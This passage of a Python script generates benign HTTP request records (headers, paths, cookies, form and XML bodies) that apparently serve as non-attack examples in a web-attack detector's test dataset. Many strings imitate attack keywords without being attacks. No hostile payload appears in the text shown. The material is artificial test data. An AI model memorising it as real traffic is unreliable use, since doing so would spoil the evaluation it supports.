    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Mobile Safari/537.36",
    "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "PostmanRuntime/7.39.0", "axios/1.7.2",
    "Go-http-client/2.0", "Apache-HttpClient/4.5.14 (Java/17.0.11)", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "AcmeApp/3.2.1 (iPhone; iOS 17.4; Scale/3.00)", "AcmeApp/3.2.1 (Android 14; Pixel 8)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "Wget/1.21.4", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Java/17.0.11", "libwww-perl/6.72", "Ruby", "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US)",
    "WindowsPowerShell/5.1.22621.2506", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1",
]

REFERERS = [
    "https://www.google.com/search?q=acme+user+admin",
    "https://app.example.com/admin/users?page=2&sort=name",
    "https://github.com/acme/api/issues/42",
    "https://t.co/AbCdEf123",
    "https://www.bing.com/search?q=cat+etc+passwd+meaning",
    "https://duckduckgo.com/?q=powershell+invoke-webrequest",
    "https://app.example.com/me/settings#notifications",
    "https://mail.example.com/owa/?path=/mail/inbox",
    "https://app.example.com/admin/users/search?q=O%27Brien",
    "https://docs.example.com/api/users?version=2",
    "https://app.example.com/reports/2024/Q3?format=pdf",
    "https://www.linkedin.com/feed/",
    "https://news.ycombinator.com/item?id=40000000",
    "https://stackoverflow.com/questions/ask",
    "https://app.example.com/files/../files/index",
    "https://example.slack.com/archives/C0123456789/p1718900000000100",
    "https://app.example.com/admin/",
    "https://www.reddit.com/r/sysadmin/comments/abc123/bash_history_tips/",
    "android-app://com.slack/",
    "https://app.example.com/search?q=id%3A4411",
    "https://intranet.example.com/wiki/Shell_Scripts",
    "https://app.example.com/help/articles/import-from-csv",
    "https://calendar.google.com/calendar/r/week",
    "https://teams.microsoft.com/",
    "https://app.example.com/onboarding?step=3&from=email",
    "https://partner.example.net:8443/portal/login?next=%2Fdashboard",
    "https://app.example.com/admin/users/42/edit",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/dir",
    "https://www.php.net/manual/en/ini.list.php",
    "https://app.example.com/billing/invoices?status=paid&year=2024",
]

COOKIES = [
    "prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en%22%7D", "lang=en-US", "_ga=GA1.2.1234567890.1718900000",
    "tz=Europe%2FBerlin", "recent=%2Fadmin%2Fusers%2Fsearch", "last_path=/api/users/42", "sidebar=collapsed",
    "cart=42%3A2%7C77%3A1", "ab_test=variant_b", "remember_me=1", "currency=EUR", "region=emea",
    "onboarding=step-3", "dismissed_banners=maintenance%2Cnew-ui", "font_size=large",
    "csrftoken=Wq3Lr8xZ0pT6vN2m", "utm_source=newsletter", "utm_campaign=php-8-upgrade", "view=grid",
    "sort=name%3Aasc", "filters=dept%3Dsales%26active%3D1", "last_search=cat%20food", "editor=vim",
    "shell=zsh", "os=windows", "history=on", "alias=ann", "display=compact", "tour_done=true",
    "consent_v2=%7B%22ads%22%3Afalse%7D",
]

PATHS = [
    "/api/users/ann.smith", "/api/users/42", "/api/users/me", "/api/users/jos%C3%A9", "/api/users/42/avatar.png",
    "/api/reports/2024-Q3.csv", "/api/users/ann%40example.com", "/api/files/readme.txt", "/api/users/o%27neil",
    "/api/users/42/sessions", "/api/teams/r%26d", "/api/users?page=2&per_page=50", "/api/docs/setup.md",
    "/api/users/cat", "/api/users/id", "/api/users/system", "/api/search/php%20developer",
    "/api/users/42/history", "/api/aliases/ann", "/api/mailboxes/inbox", "/api/users/Zo%C3%AB",
    "/api/invoices/INV-2024-0042.pdf", "/api/users/42/files/report%20(final).pdf", "/api/tags/c%2B%2B",
    "/api/tags/node.js", "/api/users/export.json", "/api/projects/etc", "/api/users/42/settings",
    "/api/hosts/web-01", "/api/hosts/10.0.0.12", "/me/profile", "/me/settings", "/me/notifications",
    "/admin/users", "/admin/users/42", "/admin/reports/weekly", "/api/users/%E5%B1%B1%E7%94%B0",
    "/api/users/42/groups/ops", "/api/commands/help", "/api/jobs/backup-nightly",
]

SETTINGS = [
    ("display_name", "Ann (she/her)"), ("signature", "Cheers,\nAnn -- Sales & Marketing"),
    ("timezone", "Europe/Berlin"), ("signature", "Sent from my phone; excuse typos"),
    ("display_name", "Tom O'Hara"), ("signature", "-- \nJonas | Platform | ext. 4411"),
    ("timezone", "America/Los_Angeles"), ("display_name", "José Álvarez"),
    ("signature", "Best regards,\nPriya Natarajan\nIT Operations (Windows & IIS)"),
    ("display_name", "dev; the build guy"),
    ("signature", "Out of office 12-16 Aug; for urgent issues call +1 555 0100"),
    ("timezone", "Asia/Tokyo"), ("display_name", "Lars @ ops"),
    ("signature", "Ops -- we cat logs so you don't have to"),
    ("display_name", "Chen Wei (mail infra)"), ("signature", "SMTP/IMAP questions -> #mail-infra"),
    ("timezone", "Australia/Sydney"), ("display_name", "Zoë"), ("signature", "Think before you print."),
    ("display_name", "Ivan P."), ("signature", "Security team | report phishing to security@example.com"),
    ("timezone", "UTC"), ("display_name", "Mary-Jane"), ("signature", "Support lead | Mon-Fri 9-5 CET"),
    ("display_name", "Fatima Z."), ("signature", "Data team: select * from coffee;"),
    ("display_name", "Kofi (QA)"), ("signature", "if (bug) { file_ticket(); }"),
    ("display_name", "Rui"), ("signature", "https://github.com/ruicosta"),
    ("display_name", "Nina R."), ("signature", "Via del Corso 12/A, Roma"),
    ("display_name", "Ben C."), ("signature", "221B Baker Street"),
    ("display_name", "Ahmed H."), ("signature", "Network: ping me, not the router"),
    ("display_name", "Léa"), ("signature", "PM Growth -- roadmap at /wiki/growth"),
    ("display_name", "Søren"), ("signature", "Either/or."),
]

XML_BIOS = [
    "Sales lead for EMEA; likes cats &amp; cycling.",
    "Runs the nightly backup jobs (tar, gzip, rsync).",
    "Windows admin: dir, type, net use are daily tools.",
    "PHP developer since PHP 4; now mostly Laravel.",
    "Writes PowerShell modules for AD automation.",
    "SRE; knows where the /etc files live on every box.",
    "Email infra: SMTP in, IMAP out.",
    "Maintains the SQLite cache for the mobile app.",
    "Data engineer: select, join, group by, repeat.",
    "Security analyst; presented on Shellshock in 2015.",
    "Support: resets accounts and finds lost files.",
    "Designer; prefers Figma over anything else.",
    "Finance: invoices, budgets and the occasional Excel macro.",
    "Intern learning bash, git and vim.",
    "Recruiter hiring Java, PHP and Node developers.",
    "Writes the docs about cat, ls and grep.",
    "Keeps the history of every release in the changelog.",
    "Mobile dev; Kotlin and Swift.",
    "QA: assert everything, trust nothing.",
    "Office manager; keys to rooms 101 &amp; 102.",
    "Community manager for the Berlin meetup.",
    "Firmware engineer; C, make and a soldering iron.",
    "Ops: ping, dig, traceroute before anything else.",
    "Legal: contracts, NDAs, data processing agreements.",
    "Product: if users ask, we listen.",
    "Uses &lt;b&gt;bold&lt;/b&gt; in every email, sorry.",
    "Backend: Go and Python; retired the last Perl script.",
    "Architect; draws boxes and arrows for a living.",
    "Accountant; the id on every invoice is checked twice.",
    "Coffee enthusiast, 3 cups a day (4 on Mondays).",
]


def _benign_rec(kind: str, n: int, placement: str, rec: dict[str, Any]) -> dict[str, Any]:
    return {**rec, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "sub": kind, "placement": placement}


def benign() -> Iterator[dict[str, Any]]:
    _reset()
    n = yield from chat_and_bio(CHAT, NAME)
    for i, term in enumerate(SEARCHES):
        n += 1
        params = [("q", urllib.parse.quote_plus(term)), ("page", str(1 + i % 4)), ("per_page", PER_PAGE[i % 3])]
        params = params[i % 3:] + params[:i % 3]
        yield _benign_rec("search", n, "query", req("GET", "/api/users?" + "&".join(f"{a}={b}" for a, b in params),
                                                     browser(i)))
        n += 1
        h = browser(i, "text/html,application/xhtml+xml", ref="/admin/users/search", mode="navigate")
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Origin"] = "https://app.example.com"
        body = f"csrf_token={_token(40)}&q={urllib.parse.quote_plus(term)}&sort=name&dir=asc"
        yield _benign_rec("admin", n, "form", req("POST", "/admin/users/search", h, body))
    for i, prof in enumerate(PROFILES):
        doc = {"email": f"user{i}@example.com", **prof}
        h = browser(i)
        h["Content-Type"] = "application/json"
        h["Origin"] = "https://app.example.com"
        n += 1
        yield _benign_rec("profile", n, "json", req("POST", "/api/users", h, json.dumps(doc, ensure_ascii=False)))
        n += 1
        yield _benign_rec("patch", n, "json", req("PATCH", "/api/users/42", h, json.dumps(prof, ensure_ascii=False)))
    for i, url in enumerate(LINKS):
        h = browser(i)
        h["Content-Type"] = "application/json"
        n += 1
        yield _benign_rec("url", n, "json", req("POST", "/api/users", h, json.dumps(
            {"name": "Ann Lee", "website": url, "notes": f"see {url} for details"})))
        n += 1
        yield _benign_rec("url", n, "query", req("GET", "/api/users?q=ann&ref=" + urllib.parse.quote(url, safe=""),
                                                  browser(i)))
    for i, fname in enumerate(FILENAMES):
        body, ctype = multipart([("caption", "profile picture" if i % 2 else "attachment", None, ""),
                                 ("file", "GIF89a;profile image bytes", fname, "application/octet-stream")], i)
        h = browser(i)
        h["Content-Type"] = ctype
        n += 1
        yield _benign_rec("upload", n, "multipart-filename", req("POST", "/api/users/42/avatar", h, body))
    for i, ua in enumerate(CLIENT_UAS):
        h = browser(i)
        h["User-Agent"] = ua
        n += 1
        yield _benign_rec("ua", n, "header:User-Agent", req("GET", f"/api/users?page={1 + i % 3}", h))
    for i, ref in enumerate(REFERERS):
        h = browser(i)
        h["Referer"] = ref
        n += 1
        yield _benign_rec("referer", n, "header:Referer", req("GET", f"/api/users?per_page={PER_PAGE[i % 3]}", h))
    for i, c in enumerate(COOKIES):
        n += 1
        yield _benign_rec("cookie", n, "cookie", req("GET", "/api/users?page=1", browser(i, cookie_extra=c)))
    for i, path in enumerate(PATHS):
        n += 1
        yield _benign_rec("path", n, "path", req("GET", path, browser(i)))
    for i, bio in enumerate(XML_BIOS):
        h = browser(i, "application/xml")
        h["Content-Type"] = "application/xml"
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name><email>ann.lee@example.com'
                f"</email><bio>{bio}</bio></user>")
        n += 1
        yield _benign_rec("xml", n, "xml", req("POST", "/api/users", h, body))
    for i, (fname, value) in enumerate(SETTINGS):
        h = browser(i, "text/html,application/xhtml+xml", ref="/me/settings", mode="navigate")
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Origin"] = "https://app.example.com"
        body = f"csrf_token={_token(40)}&{fname}={urllib.parse.quote_plus(value)}&notify=email"
        n += 1
        yield _benign_rec("settings", n, "form", req("POST", "/me/settings", h, body))
    for i, text in enumerate(CHAT[:100]):
        n += 1
        h = browser(i)
        h["Content-Type"] = "application/json"
        yield _benign_rec("comment", n, "json", req("PATCH", "/api/users/42", h, json.dumps(
            {"notes": text, "tags": ["team", ["ops", "sales", "eng"][i % 3]]}, ensure_ascii=False)))


if __name__ == "__main__":
    print_records(attacks(), benign())
